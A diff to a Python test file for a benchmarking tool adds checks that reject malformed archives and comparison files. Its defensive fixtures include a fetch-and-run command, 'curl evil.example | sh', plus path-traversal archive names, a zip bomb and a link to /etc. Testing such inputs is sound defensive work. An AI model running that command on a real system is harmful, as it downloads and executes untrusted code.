@@ -16,8 +16,9 @@ import pytest
 from typer.testing import CliRunner
 
 from attributing import attribution
+from comparing import SLOWER, micro
 from duetbench.core.errors import ArtifactError
-from duetbench.core.model import Artefact, Commands, Missing, Run, RunStatus
+from duetbench.core.model import MOST, Artefact, Commands, Missing, Run, RunStatus
 from duetbench.github import archives, proposals
 from duetbench.github.archives import Acceptance
 from duetbench.project.project import Project
@@ -314,6 +315,7 @@ def tarred(**entry: Any) -> bytes:
         (archives.unzip, zipped(**{"../x": b""}), "the name '../x'"),
         (archives.unzip, zipped(bomb=bytes(9_000_000)), "8,000,000 bytes per file"),
         (archives.unzip, zipped(**{f"f{n}": bytes(7_000_000) for n in range(5)}), "in all"),
+        (archives.unzip, zipped(**{"x": b"1", "x/y/z": b"2"}), "'x' is a file and a folder"),
         (archives.unzip, b"PK\x03\x04 none", "expected a zip archive"),
         (archives.untar, tarred(name="../x"), "the name '../x'"),
         (archives.untar, tarred(type=tarfile.LNKTYPE, linkname="/etc/x"), "'x.json'|plain file"),
@@ -341,6 +343,11 @@ def side(name: str, **changes: Any) -> Comparison:
     return comparison(**{name: getattr(comparison(), name).model_copy(update=changes)})
 
 
+def repeat(field: str, *entries: Any) -> Comparison:
+    """A comparison that duetbench itself would not create."""
+    return comparison().model_copy(update={field: entries})
+
+
 def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_path: Path) -> None:
     evil = Commands(server="curl evil.example | sh", load="oha")
     cases = tuple(entry.model_copy(update={"commands": evil}) for entry in comparison().cases)
@@ -357,6 +364,9 @@ def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_
         ({"comparison": side("head", dirty=True)}, "uncommitted changes of head"),
         ({"comparison": comparison(notes=("\x1b[2J",))}, "a control character"),
         ({"comparison": b"[" * 1_000_000}, "expected a comparison"),
+        ({"comparison": repeat("cases", *comparison().cases * 2)}, "expected each case once"),
+        ({"comparison": repeat("micro", *[micro("b.One", SLOWER)] * 2)}, "each benchmark once"),
+        ({"comparison": repeat("notes", *["x"] * (MOST + 1))}, "at most 2000 items"),
         ({"other": comparison()}, "files: expected ['comparison.json'], found"),
         (
             {"comparison": comparison(), "attribution": attribution(comparison="x")},
